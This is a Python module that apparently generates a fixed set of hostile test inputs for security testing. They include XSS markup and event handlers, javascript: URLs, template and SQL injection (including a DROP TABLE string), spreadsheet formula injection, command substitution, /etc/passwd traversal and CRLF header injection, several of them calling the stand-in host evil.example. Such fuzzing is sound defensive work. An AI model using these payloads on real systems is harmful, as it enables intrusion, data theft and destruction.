"""Hostile texts by the thousand: families of markup, scripts, addresses, formulas and signs; always the same ones."""

from collections.abc import Callable
from functools import cache
from html import escape
from itertools import product
from urllib.parse import quote

_ACT = "window.__hit=1"
_HOST = "//evil.example"
_CALLS = (_ACT, "alert(1)", f"fetch('{_HOST}')", f"import('{_HOST}/x.js')", "document.body.remove()")
_BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "]]>",
    '" ',
    "' ",
    "`",
    "\\",
    "</select>",
    "</div>",
    "<x ",
    "</svg>",
    "</noscript>",
    "\u2028",
)
_ELEMENTS = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<img src=x onerror={0}>",
    f"<img src={_HOST}/x.png>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    f'<iframe src="{_HOST}">',
    '<iframe srcdoc="<script>{0}</script>">',
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<body onload={0}>",
    "<math><mtext><script>{0}</script>",
    f'<link rel=stylesheet href="{_HOST}">',
    '<base href="//evil.example/">',
    '<a href="javascript:{0}">x</a>',
    '<form action="//evil.example"><button>x</button></form>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<object data="javascript:{0}">',
    "<template shadowrootmode=open><script>{0}</script></template>",
    "<video><source onerror={0}>",
    "<style>@import '//evil.example';</style>",
    "<h1>{0}</h1>",
    "<!--{0}-->",
    "<![CDATA[{0}]]>",
)
_ATTRIBUTES = (
    "onmouseover",
    "onfocus",
    "onerror",
    "style",
    "href",
    "srcset",
    "formaction",
    "hx-get",
    "hx-on:load",
    "data-module",
)
_ADDRESSES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "data:text/html,<script>{0}</script>",
    "vbscript:{0}",
)
_TEMPLATES = ("{{{{{0}}}}}", "${{{0}}}", "#{{{0}}}", "<%={0}%>", "{{%{0}%}}", "[[{0}]]", "@({0})", "{{{{page}}}}{0}")
_CELLS = ("=", "+", "-", "@", "|", "%", "\t=", "\u200b=", "＝", "\ufeff@", " =", "＋")
_FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("//evil.example")',
    "SUM(A1:A9)",
    'IMPORTXML("//evil.example","//a")',
)
_QUERIES = ("' OR '1'='1", "'; DROP TABLE response;--", '" OR ""="', "1) UNION SELECT 1--", "\\'; --", "%' ESCAPE '")
_FORMATS = ("%s%s%n", "%(page)s", "{0.__class__}", "%x" * 8, "$(id)", "`id`", "../../etc/passwd", "\r\nSet-Cookie: a=b")
_SIGNS = (
    *"\u200b\u200d\u2060\u202a\u202e\u2066\u2069\u061c\ufeff\ufffd\u2028\u0085\u0007\u001b",
    *(
        "e\u0301" * 9,
        "Z\u0337\u035b" * 9,
        "👩🏽\u200d🚒",
        "🏴\U000e0067\U000e0062",
        "ﷺ",
        "اردو",
        "𝕊",
        "\U0010fffd",
        "ßſK",
    ),
)


@cache
def payloads() -> tuple[str, ...]:
    """Every payload once."""
    markup = [b + e.replace("{0}", c) for b, e, c in product(_BREAKS, _ELEMENTS, _CALLS)]
    attributes = [
        f"{b}{name}={q}{c}{q} x" for b, name, q, c in product(('"', "'", "` "), _ATTRIBUTES, "\"'", _CALLS[:2])
    ]
    addresses = [one.format(call) for one, call in product(_ADDRESSES, _CALLS)]
    templates = [one.format(call) for one, call in product(_TEMPLATES, ("7*7", "config", "self", _ACT))]
    cells = [sign + words for sign, words in product(_CELLS, _FORMULAS)]
    signs = [words.join((sign, sign)) for sign, words in product(_SIGNS, ("x", "<b>", "=1", "اب"))]
    written = [*_ELEMENTS[:8], *_QUERIES]
    ways: tuple[Callable[[str], str], ...] = (escape, quote, _numbered, _hexed, _wide, str.upper)
    encoded = [way(one) for way, one in product(ways, written)]
    found = (*markup, *attributes, *addresses, *templates, *cells, *_QUERIES, *_FORMATS, *signs, *encoded)
    return tuple(dict.fromkeys(found))


def _numbered(text: str) -> str:
    return "".join(f"&#{ord(sign)}" for sign in text[:24])


def _hexed(text: str) -> str:
    return "".join(f"\\x{ord(sign):02x}" for sign in text[:24])


def _wide(text: str) -> str:
    return "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in text)


def joined(most: int, payloads: tuple[str, ...]) -> tuple[str, ...]:
    """The payloads put together into as few texts of at most so many characters as they fill."""
    texts: list[str] = []
    for one in payloads:
        if texts and len(texts[-1]) + len(one) < most:
            texts[-1] += f" {one}"
        else:
            texts.append(f"x {one}")
    return tuple(texts)
